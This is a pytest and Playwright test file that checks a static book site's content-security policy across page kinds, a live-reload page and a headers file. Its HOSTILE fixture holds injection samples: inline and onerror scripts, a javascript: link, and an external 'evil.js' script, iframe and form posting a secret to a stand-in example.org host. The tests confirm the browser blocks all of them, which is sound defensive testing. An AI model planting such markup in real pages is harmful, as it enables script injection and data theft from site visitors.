"""The content-security policy: every kind of page works under it, and it stops what it should."""

import re
import shutil
from base64 import b64encode
from hashlib import sha256
from threading import Thread

import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Page, expect
from support.site import Opener, Site, as_list

from book.findings import Finding
from book.serving import open_server
from book.serving.live import Live
from book.theme.policy import (
    CONTENT_POLICY,
    EARLY,
    HEADERS,
    PAPER,
    PAPER_POLICY,
    SEARCH_POLICY,
    policy_of,
)

NOTE = """addEventListener("securitypolicyviolation", (event) => {
  (globalThis.violations ||= []).push(
    `${event.effectiveDirective} ${event.blockedURI} ${event.sample} ${event.sourceFile}`);
})"""
KINDS = (
    "chapters/welcome.html",
    "chapters/roles/frontline.html",  # a checklist
    "chapters/approaches/family.html",  # a drawing
    "chapters/approaches/choose.html",  # the chooser
    "chapters/frontline/asset-map.html",  # charts
    "chapters/numbers/loneliness.html",  # a notebook
    "chapters/case/make-the-case.html",  # the calculator
    "chapters/about/register.html",
    "places/portsmouth.html",
    "search.html",
)
HOSTILE = """<script>globalThis.ran = "inline"</script>
<img src="none.png" alt="" onerror="globalThis.ran = 'handler'">
<a id="bait" href="javascript:globalThis.ran='link'">bait</a>
<style>.site-title { display: none }</style>
<base href="https://example.org/">
<script src="https://example.org/evil.js"></script>
<iframe src="https://example.org/"></iframe>
<form id="leak" action="https://example.org/"><input name="secret" value="1"></form>"""

SUBMIT = """() => new Promise((done) => {
  addEventListener("securitypolicyviolation", (event) => {
    if (event.effectiveDirective === "form-action") done(true);
  });
  setTimeout(() => done(false), 4000);
  leak.submit();
})"""


def digest_of(text: str) -> str:
    """A script as the policy names it."""
    return b64encode(sha256(text.encode()).digest()).decode()


def violations(tab: Page) -> list[str]:
    return tab.evaluate("globalThis.violations || []")


@pytest.mark.parametrize("way", ["server", pytest.param("folder", marks=pytest.mark.slow)])
def test_every_kind_of_page_works_under_it(way: str, open_page: Opener, site: Site) -> None:
    """No violation on load, nor with a number open; styles and scripts arrive, by both ways."""
    problems = []
    tab = open_page()
    tab.add_init_script(NOTE)
    for page in KINDS:
        assert (site.folder / page).is_file(), page
        tab.goto(site.url(page) if way == "server" else (site.folder / page).as_uri())
        number = tab.locator(".stat-face[role=button]").first
        if number.count():
            number.press("Enter")
            expect(tab.locator(".stat-panel").first).to_be_visible()
        assert tab.evaluate("document.documentElement.className") == "js", page
        weight = "getComputedStyle(document.querySelector('.site-title')).fontWeight"
        assert tab.evaluate(weight) == "700", page
        problems += [f"{page}: {one}" for one in violations(tab)]
    assert not problems, as_list(problems)


def test_search_and_charts_need_no_more_than_it_gives(open_page: Opener, site: Site) -> None:
    tab = open_page()
    tab.add_init_script(NOTE)
    tab.goto(site.url("search.html?q=loneliness"))
    expect(tab.locator(".search-results li").first).to_be_visible()
    assert violations(tab) == []
    tab.goto(site.url("chapters/numbers/loneliness.html"))
    drawn = "getComputedStyle(document.querySelector('svg [style*=\"stroke-width\"]')).strokeWidth"
    assert re.fullmatch(r"[\d.]+px", tab.evaluate(drawn))
    wide = "document.querySelector('.on-this-page details').open"
    assert tab.evaluate(wide), "the list of headings stands open on a wide screen"
    assert not open_page("chapters/numbers/loneliness.html", width=360).evaluate(wide)


@pytest.mark.parametrize("way", ["server", "folder"])
def test_what_slipped_through_does_not_run(
    way: str, open_page: Opener, site: Site, tmp_path
) -> None:
    page = "chapters/welcome.html"
    html = (
        (site.folder / page)
        .read_text(encoding="utf-8")
        .replace("</article>", f"{HOSTILE}</article>", 1)
    )
    assert HOSTILE in html
    left: list[str] = []
    tab = open_page()
    tab.add_init_script(NOTE)
    tab.route("https://example.org/**", lambda route: left.append(route.request.url))
    if way == "server":
        tab.route(site.url(page), lambda route: route.fulfill(body=html, content_type="text/html"))
        tab.goto(site.url(page))
    else:
        shutil.copytree(site.folder / "_static", tmp_path / "_static")
        (tmp_path / "chapters").mkdir()
        (tmp_path / page).write_text(html, encoding="utf-8")
        tab.goto((tmp_path / page).as_uri())
    tab.locator("#bait").dispatch_event("click")
    expect(tab.locator(".site-title")).to_be_visible()
    assert tab.evaluate(SUBMIT), "the form was sent elsewhere"
    stopped = {line.split()[0] for line in violations(tab)}
    wanted = {"script-src-elem", "script-src-attr", "style-src-elem"}
    wanted |= {"base-uri", "frame-src"}
    assert wanted <= stopped, stopped
    assert tab.evaluate("globalThis.ran") is None
    assert left == [], "a request left the page"


def test_the_page_that_is_kept_new_works_under_it(open_page: Opener, site: Site) -> None:
    live = Live()
    server = open_server(site.folder, 8700, live)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        tab = open_page()
        tab.add_init_script(NOTE)
        tab.goto(f"http://127.0.0.1:{server.server_address[1]}/chapters/welcome.html")
        live.failed([Finding("chapters/welcome.md", 3, "something is wrong")])
        expect(tab.locator("#book-live")).to_contain_text(
            "chapters/welcome.md:3: something is wrong"
        )
        assert violations(tab) == []
        live.written(["chapters/welcome"])
        expect(tab.locator("#book-live")).to_have_count(0)
        assert violations(tab) == []
    finally:
        live.close()
        server.shutdown()
        server.server_close()


@pytest.mark.slow
def test_every_page_carries_it_before_anything_it_rules(site: Site) -> None:
    problems = []
    for page in ["index.html", *site.pages]:
        soup = BeautifulSoup((site.folder / page).read_text(encoding="utf-8"), "html.parser")
        head = soup.head
        assert head
        first = list(head.find_all(True))[:2]
        if len(first) < 2 or first[1].get("content") != policy_of(page.removesuffix(".html")):
            problems.append(f"{page}: the policy does not come second in the head")
        for script in soup.find_all("script"):
            data = script.get("type") in ("application/json", "application/ld+json")
            first = digest_of(script.get_text()) == EARLY
            if not script.get("src") and not data and not first:
                problems.append(f"{page}: an inline script: {script.get_text()[:60]}")
        problems += [f"{page}: a style element" for style in soup.find_all("style")]
    assert not problems, as_list(problems)


def test_hosts_that_read_headers_get_the_same(site: Site) -> None:
    text = (site.folder / "_headers").read_text(encoding="utf-8")
    for where in ("/", "/index.html", "/chapters/*", "/places/*"):
        assert f"\n{where}\n  Content-Security-Policy: {CONTENT_POLICY}\n" in text
    assert f"\n/search.html\n  Content-Security-Policy: {SEARCH_POLICY}\n" in text
    assert f"\n/{PAPER}.html\n  Content-Security-Policy: {PAPER_POLICY}\n" in text
    assert text.startswith("/*\n")


def test_the_page_that_reads_papers_may_send_nothing() -> None:
    for place in ("connect-src", "form-action", "base-uri", "default-src"):
        assert f"{place} 'none'" in PAPER_POLICY
    ours = PAPER_POLICY.replace("connect-src 'none'", "connect-src 'self'")
    assert ours.replace("form-action 'none'", "form-action 'self'") == CONTENT_POLICY


def test_only_search_may_compile_and_nothing_may_evaluate() -> None:
    assert SEARCH_POLICY.replace(" 'wasm-unsafe-eval'", "") == CONTENT_POLICY
    scripts = CONTENT_POLICY.split("script-src ")[1].split(";")[0]
    assert scripts == f"'self' 'sha256-{EARLY}'", "no script in a page but the one that begins it"
    assert "'unsafe-eval'" not in HEADERS
